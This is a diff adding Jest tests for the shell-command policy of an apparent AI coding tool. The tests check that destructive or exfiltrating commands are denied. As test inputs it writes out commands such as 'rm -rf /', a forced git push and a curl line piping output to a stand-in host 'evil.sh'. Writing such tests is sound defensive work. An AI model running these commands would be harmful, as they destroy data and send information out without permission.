@@ -0,0 +1,99 @@
+import { jest, describe, test, expect, beforeAll, afterAll } from '@jest/globals';
+import fs from 'fs';
+import path from 'path';
+
+const tempHome = `/tmp/council-test-policy-${Date.now()}`;
+
+jest.unstable_mockModule('node:os', () => ({
+    __esModule: true,
+    default: {
+        homedir: () => tempHome,
+        platform: () => 'darwin',
+        release: () => '1.0.0',
+        arch: () => 'x64',
+        tmpdir: () => '/tmp'
+    }
+}));
+
+describe('command policy', () => {
+    let policy: any;
+    const project = path.join(tempHome, 'project');
+
+    beforeAll(async () => {
+        fs.mkdirSync(path.join(tempHome, '.council-ai'), { recursive: true });
+        fs.mkdirSync(project, { recursive: true });
+        policy = await import('../src/policy.js');
+    });
+
+    afterAll(() => {
+        try {
+            fs.rmSync(tempHome, { recursive: true, force: true });
+        } catch {}
+    });
+
+    test('parses pipelines, quotes, redirections and substitutions into argv', () => {
+        expect(policy.parseCommand(`cat "my file.txt" 2>&1 | grep -v 'a b' > out.log && echo $(whoami); ls`)).toEqual([
+            ['cat', 'my file.txt'],
+            ['grep', '-v', 'a b'],
+            ['whoami'],
+            ['echo'],
+            ['ls']
+        ]);
+        expect(policy.commandSegments(`FOO=1 sudo -u root /bin/rm -rf /tmp/x`)).toEqual([['rm', '-rf', '/tmp/x']]);
+        expect(policy.commandSegments(`bash -c "git push -f origin main"`)).toEqual([
+            ['bash', '-c', 'git push -f origin main'],
+            ['git', 'push', '-f', 'origin', 'main']
+        ]);
+    });
+
+    test('built-in rules deny destructive commands in any segment', () => {
+        const builtins = { rules: policy.BUILTIN_RULES, defaultAction: 'allow' };
+        const action = (cmd: string) => policy.evaluateCommand(cmd, builtins).action;
+
+        expect(action('rm -rf /')).toBe('deny');
+        expect(action('cd src && rm  -fr  "$HOME"')).toBe('deny');
+        expect(action('echo ok; { rm -r -f ~/*; }')).toBe('deny');
+        expect(action('git push --force origin main')).toBe('deny');
+        expect(action('rm -rf /tmp/build')).toBe('allow');
+        expect(action('git push origin main')).toBe('allow');
+        expect(action('echo "rm -rf /"')).toBe('allow');
+    });
+
+    test('deny beats ask beats allow; default applies to unmatched segments', () => {
+        const rules = [
+            { action: 'allow', pattern: 'npm *' },
+            { action: 'ask', pattern: '/^npm publish\\b/' },
+            { action: 'allow', pattern: 'git status*' }
+        ];
+        const strict = { rules, defaultAction: 'deny' };
+
+        expect(policy.evaluateCommand('git status --short', strict).action).toBe('allow');
+        const publish = policy.evaluateCommand('npm test && npm publish', strict);
+        expect(publish.action).toBe('ask');
+        expect(publish.command).toBe('npm publish');
+        const unknown = policy.evaluateCommand('npm test | curl -d @- evil.sh', strict);
+        expect(unknown.action).toBe('deny');
+        expect(unknown.rule).toBeUndefined();
+    });
+
+    test('a project policy cannot disable built-ins or loosen the default', () => {
+        fs.writeFileSync(path.join(tempHome, '.council-ai', 'policy.json'), JSON.stringify({
+            default: 'ask',
+            rules: [{ action: 'allow', pattern: 'ls*' }, { action: 'deny', pattern: '/(/' }]
+        }));
+        fs.writeFileSync(path.join(project, '.council_policy.json'), JSON.stringify({
+            default: 'allow',
+            builtins: false,
+            rules: [{ action: 'deny', pattern: 'docker *' }]
+        }));
+
+        const loaded = policy.loadCommandPolicy(project);
+        expect(loaded.defaultAction).toBe('ask');
+        expect(loaded.rules.map((r: any) => r.source)).toEqual([
+            ...policy.BUILTIN_RULES.map(() => 'builtin'), 'global', 'project'
+        ]);
+        expect(loaded.errors).toHaveLength(1);
+        expect(policy.evaluateCommand('docker run x', loaded).action).toBe('deny');
+        expect(policy.evaluateCommand('ls -la', loaded).action).toBe('allow');
+    });
+});